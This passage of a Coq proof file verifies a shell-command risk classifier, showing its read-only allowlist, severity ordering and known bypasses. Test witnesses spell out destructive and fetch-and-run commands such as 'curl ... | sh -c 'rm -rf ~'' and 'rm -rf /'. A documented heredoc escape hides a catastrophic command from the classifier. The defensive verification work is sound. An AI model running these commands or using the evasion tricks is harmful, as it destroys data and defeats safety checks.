  unfold read_only_program. cbn zeta. rewrite !Hno by (intros w Hw; cbn in *; tauto). 
  repeat (rewrite Hne by (cbn; tauto)). destruct (str_eqb program _); [done|]. by rewrite Hne by (cbn; tauto).
Qed.
Lemma find_refused args v : In v args ->
  is_one v ["-delete"; "-exec"; "-execdir"; "-ok"; "-okdir"; "-fprint"; "-fprint0"; "-fprintf"; "-fls"] ->
  read_only_program $"find" args = false.
Proof.
  intros Hv (w & Hw & ->). apply negb_false_iff. apply existsb_exists. exists (lit w). split; [done|].
  apply one_of_In. exists w. split; [cbn in *; tauto|done].
Qed.
(** A long option, alone or with its value, is one the check names. *)
Ltac refuse_option Ho Hs :=
  cbn [In] in Ho;
  repeat destruct Ho as [<-|Ho]; try done;
  (destruct Hs as [Hs|Hs];
    [apply str_eqb_spec in Hs as ->; reflexivity
    |match type of Hs with starts_with ?v ?p = true =>
       repeat match goal with |- context [starts_with v ?q] =>
         progress change (starts_with v q) with (starts_with v p) end end;
     rewrite Hs, ?andb_false_r; reflexivity]).
Lemma sort_refused args v : In v args ->
  takes v ["--output"; "--temporary-directory"; "--compress-program"] \/ bundles v 111 \/ bundles v 84 ->
  read_only_program $"sort" args = false.
Proof.
  intros Hv Hs. refine (forallb_refused _ args v Hv _). cbv beta. unfold short_option_contains.
  destruct Hs as [(o & Ho & Hs)%takes_cases|[->%bundles_flag| ->%bundles_flag]]; [|by rewrite ?andb_false_r..].
  refuse_option Ho Hs.
Qed.
Lemma date_refused args v : In v args -> takes v ["--set"] \/ bundles v 115 -> read_only_program $"date" args = false.
Proof.
  intros Hv Hs. refine (forallb_refused _ args v Hv _). cbv beta. unfold short_option_contains.
  destruct Hs as [(o & Ho & Hs)%takes_cases| ->%bundles_flag]; [|by rewrite ?andb_false_r].
  refuse_option Ho Hs.
Qed.
Lemma rg_refused args v : In v args -> takes v ["--pre"; "--hostname-bin"] -> read_only_program $"rg" args = false.
Proof.
  intros Hv (o & Ho & Hs)%takes_cases. refine (forallb_refused _ args v Hv _). cbv beta. refuse_option Ho Hs.
Qed.
Lemma uniq_refused a x b y c : ~ dashed x -> ~ dashed y -> read_only_program $"uniq" (a ++ x :: b ++ y :: c) = false.
Proof.
  rewrite <-!dashed_spec. intros Hx Hy. apply Nat.leb_gt.
  rewrite List.filter_app. cbn [List.filter]. destruct (starts_with x $"-"); [done|]. cbn [negb].
  rewrite length_app. cbn [length]. rewrite List.filter_app. cbn [List.filter]. destruct (starts_with y $"-"); [done|].
  cbn [negb]. rewrite length_app. cbn [length]. lia.
Qed.

Lemma writers_refused program args : writes_or_runs program args -> read_only_program program args = false.
Proof.
  assert (forall w, starts_with (lit w) $"-" = false -> ~ dashed (lit w)) as Hword by (by intros w Hw; rewrite <-dashed_spec, Hw).
  assert (forall sub, is_one sub GIT_READERS -> ~ dashed sub) as Hreader.
  { intros sub (w & Hw & ->). apply Hword. cbn in Hw. repeat destruct Hw as [<-|Hw]; done. }
  destruct 1.
  - by apply unlisted_refused.
  - eapply option_refused; [done..|]. by apply takes_output.
  - by eapply find_refused.
  - by eapply sort_refused.
  - by apply uniq_refused.
  - by eapply date_refused.
  - by eapply rg_refused.
  - by apply git_global_refused.
  - apply read_only_git_skip; [done..|]. by apply git_command_refused.
  - apply read_only_git_skip; [done|by apply Hreader|]. by eapply git_option_refused.
  - apply read_only_git_skip; [done|by apply Hword|]. by apply git_remote_refused.
  - apply read_only_git_skip; [done|by apply Hword|]. by eapply git_branch_refused.
Qed.

Lemma read_only_not_mutating program args :
  read_only_program program args = true -> program_mutates_files (program :: args) = false.
Proof.
  unfold read_only_program. cbn zeta. intros H.
  destruct (one_of program _) eqn:E in H.
  { apply one_of_In in E as (w & Hw & ->). cbn in Hw. repeat destruct Hw as [<-|Hw]; done. }
  clear E. repeat match type of H with
  | (if str_eqb program ?s then _ else _) = true =>
      destruct (str_eqb program s) eqn:E; [apply bool_decide_eq_true in E as ->; try done|]; try clear E
  end.
  1: destruct (one_of program _) eqn:E in H.
  1: apply one_of_In in E as (w & Hw & ->); cbn in Hw; repeat destruct Hw as [<-|Hw]; done.
  1: clear E; repeat match type of H with
  | (if str_eqb program ?s then _ else _) = true =>
      destruct (str_eqb program s) eqn:E; [apply bool_decide_eq_true in E as ->; try done|]; try clear E
  end; try done.
  cbn [program_mutates_files].
  change (one_of $"git" _) with false at 1. cbn match.
  destruct (git_subcommand args) as [sub|] eqn:Es; [|done].
  eapply one_of_false_in; [by eapply read_only_git_subcommand|done].
Qed.

Section Recorded.
Context (P : ShellCommand -> Prop) (analyze_into : str -> nat -> AccM bool) (depth : nat).
Context (Hrec : forall t, keeps P (analyze_into t (S depth)) (fun _ => True)).

Lemma nested_text_keeps t d : keeps P (analyze_nested_text analyze_into t d depth) (fun _ => True).
Proof. unfold analyze_nested_text. keeps_auto. Qed.

Lemma skip_env_keeps ws i n : keeps P (skip_env_from analyze_into ws i n depth) (fun _ => True).
Proof.
  revert i. induction ws as [ws IH] using (induction_ltof1 _ (@length Word)); unfold ltof in IH.
  intros i. pose proof nested_text_keeps as Hn.
  destruct ws as [|w [|w' ws]]; cbn [skip_env_from]; keeps_auto; try apply Hn;
    apply IH; cbn; lia.
Qed.

Lemma unwrap_one_keeps ws i w c :
  keeps P (unwrap_one analyze_into ws i depth w c)
    (fun r => match r with inl p | inr p => c_risk (snd p) = c_risk c end).
Proof.
  unfold unwrap_one. pose proof (skip_env_keeps (drop (S i) ws) (S i) (length ws)) as He.
  change (skip_env_from _ _ _ _ _) with (skip_env analyze_into ws (S i) depth) in He.
  cbn zeta. repeat (case_match; try by apply keeps_ret).
  eapply keeps_bind; [apply He|]. intros j _. by apply keeps_ret.
Qed.

Lemma unwrap_wrappers_keeps n ws i c :
  keeps P (unwrap_wrappers analyze_into n ws i depth c) (fun p => c_risk (snd p) = c_risk c).
Proof.
  revert i c. induction n as [|n IH]; intros i c; cbn [unwrap_wrappers].
  { eapply keeps_bind; [apply keeps_opaque|]. intros _ _. by apply keeps_ret. }
  destruct (ws !! i) as [w|]; [|by apply keeps_ret]. case_match; [by apply keeps_ret|].
  eapply keeps_bind; [apply unwrap_one_keeps|].
  intros [[j c']|p] Hr; cbn in Hr; [|by apply keeps_ret].
  eapply keeps_mono; [apply IH|]. intros p ->. cbn. done.
Qed.

Lemma shell_invocation_keeps args f :
  keeps P (classify_shell_invocation analyze_into args depth f) (fun _ => True).
Proof.
  unfold classify_shell_invocation. pose proof nested_text_keeps.
  destruct (shell_options args false false) as [[[|w rest] []] rs]; keeps_auto.
Qed.

(** Only the allowlist yields [ReadOnly], and only for a bare program name. *)
Lemma classify_program_keeps p pw args c f : c_risk c <> ReadOnly ->
  keeps P (classify_program analyze_into p pw args depth c f)
    (fun r => c_risk (fst r) = ReadOnly ->
              p = w_text pw /\ read_only_program p (map w_text args) = true).
Proof.
  intros Hc. unfold classify_program. cbn zeta.
  pose proof nested_text_keeps as Hn. pose proof shell_invocation_keeps as Hs.
  pose proof (rm_risk_not_read_only args (c_from_xargs c)) as Hrm.
  pose proof (dd_risk_not_read_only (map w_text args)) as Hdd.
  repeat (case_match; try (apply keeps_ret; cbn; congruence)).
  all: try (eapply keeps_bind; [apply Hs|]; intros; apply keeps_ret; cbn; congruence).
  all: try (apply keeps_ret; cbn; intros; by apply Hrm in H).
  all: repeat (eapply (keeps_bind _ _ _ (fun _ => True)); [solve [auto with keeps | apply Hn]|intros ? _]);
    try (apply keeps_ret; cbn; try congruence).
  intros _. repeat match goal with H : _ && _ = true |- _ => apply andb_true_iff in H as [? ?] end.
  split; [|done]. by eapply bool_decide_eq_true.
Qed.

Lemma redirects_keeps rs sin r w :
  keeps P (classify_redirects analyze_into rs sin depth r w)
    (fun x => fst x = ReadOnly -> r = ReadOnly).
Proof.
  revert r w. induction rs as [|x rs IH]; intros r w; cbn [classify_redirects]; [by apply keeps_ret|].
  destruct (r_kind x); cbn zeta; try apply IH.
  1-3: eapply keeps_mono; [apply IH|]; intros [r' w'] Hr E; apply Hr in E; repeat case_match; try done;
       by apply risk_max_read_only in E as [? _].
  all: apply (keeps_bind _ _ _ (fun _ => True)); [|intros _ _; apply IH]; keeps_auto.
Qed.
End Recorded.

(** A command that runs no program, or one it names without a path, in none of
    the ways above to write or to run something. *)
Definition reads_only (c : ShellCommand) : Prop :=
  match sc_effective c with
  | [] => True
  | program :: args => In program (sc_literal c) /\ ~ writes_or_runs program args
  end.
Lemma incl_drop {A} n (l : list A) : incl (drop n l) l.
Proof. intros x Hx. rewrite <-(take_drop n l). apply in_app_iff. by right. Qed.
(** What holds of every recorded command: its nesting depth is bounded and a
    read-only command writes no file in any way the classifier tracks. *)
Definition recorded_ok (c : ShellCommand) : Prop :=
  (sc_depth c <= MAX_DEPTH)%nat /\
  (sc_risk c = ReadOnly ->
   sc_writes_file c = false /\ sc_has_assignments c = false
   /\ program_mutates_files (sc_effective c) = false /\ reads_only c).

Section Segment.
Context (analyze_into : str -> nat -> AccM bool) (depth : nat).
Context (Hdepth : (depth <= MAX_DEPTH)%nat).
Context (Hrec : forall t, keeps recorded_ok (analyze_into t (S depth)) (fun _ => True)).

Lemma skip_reserved_keeps P ws i : keeps P (skip_reserved ws i) (fun _ => True).
Proof. revert i. induction ws as [|w ws IH]; intros i; cbn [skip_reserved]; keeps_auto. Qed.

Lemma escalated_read_only (b : bool) r q :
  (if b then risk_max r q else r) = ReadOnly -> r = ReadOnly.
Proof. destruct b; [|done]. by intros [? _]%risk_max_read_only. Qed.

Lemma dispatch_keeps effective c : c_risk c = Mutating ->
  keeps recorded_ok
    (match effective with
     | pw :: args =>
         if w_dynamic pw then acc_opaque DynamicProgram ;; mret (set_risk Opaque c, default_flow)
         else classify_program analyze_into (basename (w_text pw)) pw args depth c default_flow
     | [] => mret (if c_escalated c then set_risk Escalating c
                   else if c_lookup c then set_risk ReadOnly c else c, default_flow)
     end)
    (fun r : Classified * Flow => c_risk (fst r) = ReadOnly ->
       match map w_text effective with
       | p :: rest => basename p = p /\ read_only_program (basename p) rest = true
       | [] => True
       end).
Proof.
  intros Hc. destruct effective as [|pw args]; [by apply keeps_ret|].
  destruct (w_dynamic pw).
  - apply (keeps_bind _ _ _ (fun _ => True)); [auto with keeps|intros _ _]. by apply keeps_ret.
  - eapply keeps_mono; [apply classify_program_keeps; [done|by rewrite Hc]|].
    intros [c' f] H E. cbn in E |- *. by apply H in E.
Qed.

Lemma segment_keeps seg pf :
  keeps recorded_ok (classify_segment analyze_into seg depth pf) (fun _ => True).
Proof.
  unfold classify_segment. cbn zeta.
  apply (keeps_bind _ _ _ (fun _ => True)); [apply skip_reserved_keeps|intros i _].
  apply (keeps_bind _ _ _ (fun _ => True)); [unfold skip_keyword; keeps_auto|intros j _].
  eapply keeps_bind; [by apply unwrap_wrappers_keeps|]. intros [k c] Hc. cbn in Hc.
  eapply keeps_bind; [by apply dispatch_keeps|]. intros [c' f] Hp. cbn [fst] in Hp.
  eapply keeps_bind; [by apply redirects_keeps|]. intros [r w] Hr. cbn [fst] in Hr.
  assert (Hcmd : forall ha pl red piped,
    recorded_ok (mkCommand depth (map w_text (s_words seg))
      (match map w_text (drop (k `min` length (s_words seg)) (s_words seg)) with
       | p :: rest => basename p :: rest | [] => [] end) pl (c_wrapped c') ha red w piped
      (if w || ha then risk_max r Mutating else r))).
  { intros. split; [done|]. cbn. intros E.
    destruct w; cbn in E; [by apply risk_max_read_only in E as [_ ?]|].
    destruct ha; [by apply risk_max_read_only in E as [_ ?]|].
    do 2 (split; [done|]). apply Hr, escalated_read_only, escalated_read_only, Hp in E. unfold reads_only. cbn.
    pose proof (incl_map w_text (incl_drop (k `min` length (s_words seg)) (s_words seg))) as Hin.
    destruct (map w_text (drop _ _)) as [|p rest]; [done|]. destruct E as [Eb E]. split; [by apply read_only_not_mutating|].
    split; [rewrite Eb; apply Hin; by left|]. intros Hw%writers_refused. congruence. }
  destruct (s_words seg), (s_redirects seg); [by apply keeps_ret|..];
    (apply (keeps_bind _ _ _ (fun _ => True)); [by apply keeps_command|intros _ _; by apply keeps_ret]).
Qed.

Lemma segments_keeps segs pf :
  keeps recorded_ok (classify_segments analyze_into segs depth pf) (fun _ => True).
Proof.
  revert pf. induction segs as [|s segs IH]; intros pf; cbn [classify_segments]; [keeps_auto|].
  eapply keeps_bind; [apply segment_keeps|]. intros f _. apply IH.
Qed.

Lemma analyze_each_keeps l : keeps recorded_ok (analyze_each analyze_into l depth) (fun _ => True).
Proof. induction l as [|t l IH]; cbn [analyze_each]; keeps_auto. Qed.
End Segment.

Lemma analyze_into_keeps lexer rounds source depth :
  keeps recorded_ok (analyze_into_with lexer rounds source depth) (fun _ => True).
Proof.
  revert source depth. induction rounds as [|rounds IH]; intros source depth;
    cbn [analyze_into_with]; (destruct (MAX_DEPTH <? depth)%nat eqn:E; [keeps_auto|]).
  { by intros s a s'. }
  apply Nat.ltb_ge in E.
  apply (keeps_bind _ _ _ (fun _ => True)); [auto with keeps|intros l _].
  apply (keeps_bind _ _ _ (fun _ => True)); [auto with keeps|intros _ _].
  apply (keeps_bind _ _ _ (fun _ => True)); [by apply segments_keeps|intros _ _].
  apply (keeps_bind _ _ _ (fun _ => True)); [by apply analyze_each_keeps|intros _ _].
  auto with keeps.
Qed.

Lemma analyze_recorded lexer command a :
  analyze_with lexer command = Ok a -> Forall recorded_ok (sa_commands a).
Proof.
  intros H. apply analyze_with_summarize in H as (p & acc & -> & [H|H]).
  - cbn in H. subst. constructor.
  - destruct (analyze_into_keeps _ _ _ _ _ _ _ H) as [Hk _]; [constructor|exact Hk].
Qed.

(** Commands of a read-only line carry no opaque construct and no risk. *)
Lemma read_only_parts lexer command a :
  analyze_with lexer command = Ok a -> sa_risk a = ReadOnly ->
  sa_opaque a = [] /\ Forall (fun c => sc_risk c = ReadOnly) (sa_commands a).
Proof.
  intros H Hr. apply analyze_with_summarize in H as (p & acc & -> & _).
  destruct (summarize_ge p acc) as (H1 & H2 & _). rewrite Hr in H1, H2. split.
  - destruct (sa_opaque _); [done|]. exfalso. assert (risk_le Opaque ReadOnly) as Hx by by apply H2.
    unfold risk_le in Hx. cbn in Hx. lia.
  - eapply List.Forall_impl; [|apply H1]. intros c Hc. cbn in Hc. destruct (sc_risk c); unfold risk_le in Hc; cbn in Hc; [done|lia..].
Qed.

Lemma read_only_no_writes lexer command a :
  analyze_with lexer command = Ok a -> sa_risk a = ReadOnly -> writes_files a = false.
Proof.
  intros H Hr. destruct (read_only_parts _ _ _ H Hr) as [Ho Hc].
  pose proof (analyze_recorded _ _ _ H) as Hk.
  unfold writes_files. rewrite Hr, Ho. cbn [risk_rank Nat.leb opaque_contains existsb orb].
  apply not_true_is_false. rewrite existsb_exists. intros (c & Hin & Hw).
  rewrite List.Forall_forall in Hc, Hk. destruct (Hk c Hin) as [_ Hok].
  destruct (Hok (Hc c Hin)) as (Hf & _ & Hm & _). by rewrite Hf, Hm in Hw.
Qed.

Definition risk_of (command : str) : Res ShellRisk := sa_risk <$> analyze command.

(** ** The classifier's contract *)

(** C37. Every command made of characters the tokenizer knows how to separate
    (no white space besides space, tab, carriage return and line feed) is
    classified: [analyze] returns, with no panic and within its fuel, and every
    command it reports sits at a nesting depth of at most [MAX_DEPTH]. *)
Theorem analyze_total (command : str) :
  plain command ->
  exists a, analyze command = Ok a /\ Forall (fun c => (sc_depth c <= MAX_DEPTH)%nat) (sa_commands a).
Proof.
  intros Hp. destruct (analyze_ok command Hp) as [a Ha]. exists a. split; [done|].
  eapply List.Forall_impl; [|by eapply analyze_recorded]. by intros c [Hc _].
Qed.

Lemma analyze_total_witness :
  exists a, analyze $"cat <(curl -s https://x | sh -c 'rm -rf ~') > out && echo $(ls)" = Ok a
    /\ Forall (fun c => (sc_depth c <= MAX_DEPTH)%nat) (sa_commands a).
Proof. apply (analyze_total _). repeat constructor. Defined.

(** A command line that starts with white space other than the four
    characters the main loop skips (a vertical tab, a form feed, U+0085, a
    no-break space, ...) is never classified: the tokenizer pushes empty words
    for ever, whatever fuel it is given. *)
Theorem analyze_diverges (extra depth : nat) (c : char) (rest : str) :
  exotic c -> len (c :: rest) <= MAX_SOURCE_BYTES ->
  analyze_with (lex_gen extra depth) (c :: rest) = OutOfFuel.
Proof.
  intros He Hl. unfold analyze_with. cbn zeta. replace (MAX_SOURCE_BYTES <? _) with false by lia.
  cbn [analyze_into_with]. change (MAX_DEPTH <? 0)%nat with false. cbn match.
  unfold mbind, accm_bind, acc_lift, res_bind. by rewrite lex_gen_exotic.
Qed.

Lemma analyze_diverges_witness :
  exotic 160 /\ analyze_with (lex_gen 1000 7) (160 :: $"ls") = OutOfFuel.
Proof. split; [by vm_compute|]. apply analyze_diverges; by vm_compute. Defined.

(** The verdict of a line is the most severe of its parts: it bounds the
    risk of every command at every nesting depth, opaque syntax is at least
    [Opaque], a function definition at least [Destructive]; and it is
    [Catastrophic] exactly when some command of the line is. *)
Theorem analyze_severity (command : str) (a : ShellAnalysis) :
  analyze command = Ok a ->
  Forall (fun c => risk_le (sc_risk c) (sa_risk a)) (sa_commands a)
  /\ (sa_opaque a <> [] -> risk_le Opaque (sa_risk a))
  /\ (opaque_contains FunctionDefinition (sa_opaque a) = true -> risk_le Destructive (sa_risk a))
  /\ (sa_risk a = Catastrophic <-> Exists (fun c => sc_risk c = Catastrophic) (sa_commands a)).
Proof.
  intros H. apply analyze_with_summarize in H as (p & acc & -> & _).
  destruct (summarize_ge p acc) as (H1 & H2 & H3). do 3 (split; [done|]).
  split; [apply summarize_catastrophic|]. intros (c & Hin & Hc)%List.Exists_exists.
  rewrite List.Forall_forall in H1. specialize (H1 c Hin). rewrite Hc in H1.
  destruct (sa_risk _); unfold risk_le in H1; cbn in H1; done || lia.
Qed.

Lemma analyze_severity_witness :
  exists a, analyze $"echo hi && sudo sh -c 'rm -rf /etc/..'" = Ok a /\ sa_risk a = Catastrophic.
Proof.
  eexists. split; [vm_compute; reflexivity|].
  refine (proj2 (proj2 (proj2 (proj2 (analyze_severity $"echo hi && sudo sh -c 'rm -rf /etc/..'" _ _)))) _).
  - vm_compute. reflexivity.
  - cbn [sa_commands]. repeat first [apply Exists_cons_hd; reflexivity | apply Exists_cons_tl].
Defined.

(** C9. A line judged read-only does nothing but read in any way the classifier
    knows of: it holds no opaque construct, no redirect to a file and no variable
    assignment, and every command of it, at any depth, runs no program (a bare
    redirect, a lookup) or one of the listed reading programs, named without a
    path, and in none of the listed ways to write a file or run another program:
    no [--output], [--exec], [--command], [--config] or [--files-from], no action
    of [find] that deletes, runs or prints to a file, no output or temporary
    directory or helper program of [sort], no second operand of [uniq], no
    [date --set], no [rg --pre], and of [git] only the reading subcommands
    without the options that write or run. *)
Theorem analyze_read_only_safe (command : str) (a : ShellAnalysis) :
  analyze command = Ok a -> sa_risk a = ReadOnly ->
  writes_files a = false /\ sa_opaque a = []
  /\ Forall (fun c => sc_writes_file c = false /\ sc_has_assignments c = false /\ reads_only c) (sa_commands a).
Proof.
  intros H Hr. destruct (read_only_parts _ _ _ H Hr) as [Ho Hc].
  split; [by eapply read_only_no_writes|]. split; [done|].
  apply List.Forall_forall. intros c Hin. rewrite List.Forall_forall in Hc.
  pose proof (analyze_recorded _ _ _ H) as Hk. rewrite List.Forall_forall in Hk.
  destruct (Hk c Hin) as [_ Hok]. by destruct (Hok (Hc c Hin)) as (? & ? & _ & ?).
Qed.

Lemma analyze_read_only_safe_witness :
  exists a, analyze $"git log --oneline | head -5 2>/dev/null" = Ok a /\ writes_files a = false
    /\ map (fun c => length (sc_effective c)) (sa_commands a) = [3; 2]%nat
    /\ Forall (fun c => sc_writes_file c = false /\ sc_has_assignments c = false /\ reads_only c) (sa_commands a).
Proof.
  eexists. split; [vm_compute; reflexivity|].
  refine ((fun H => conj (proj1 H) (conj eq_refl (proj2 (proj2 H)))) (analyze_read_only_safe $"git log --oneline | head -5 2>/dev/null" _ _ _));
    vm_compute; reflexivity.
Defined.

(** The allowlist is not complete: [uniq] takes [-] for its input and writes its
    second operand, GNU [sort] accepts an abbreviated [--output], and [git grep]
    runs the program it is given to open files in. *)
Theorem read_only_lines_that_write :
  risk_of $"uniq - out.txt" = Ok ReadOnly
  /\ risk_of $"sort --outp=out.txt in.txt" = Ok ReadOnly
  /\ risk_of $"git grep --open-files-in-pager=./run.sh word" = Ok ReadOnly.
Proof. by vm_compute. Qed.

(** An expanding heredoc whose body holds a backslash before a double quote
    escapes the quoting the tokenizer wraps around it, so a command
    substitution after it is not seen: the same script is [Catastrophic]
    without the two extra characters and only [Opaque] with them, although the
    shell runs [rm -rf /] both times. *)
Theorem heredoc_escape_hides_catastrophe :
  let script body := $"cat <<E" ++ [c_nl] ++ body ++ [c_nl] ++ $"E" ++ [c_nl] in
  (risk_of (script $"'$(rm -rf /)'") = Ok Catastrophic)
  /\ risk_of (script ([c_backslash; c_dquote] ++ $" '$(rm -rf /)'")) = Ok Opaque.
Proof. by vm_compute. Qed.

(** The two closed vocabularies round-trip: [parse] inverts [as_str] for
    [ShellRisk] and for [OpaqueConstruct], and accepts no other string. *)
Theorem shell_vocabulary_roundtrip :
  (forall r s, risk_parse s = Some r <-> s = risk_as_str r)
  /\ (forall c s, opaque_parse s = Some c <-> s = opaque_as_str c).
Proof.
  split; intros x s; (split;
    [intros [_ H]%List.find_some; unfold str_eqb in H; by apply bool_decide_eq_true in H
    |intros ->; by destruct x]).
Qed.
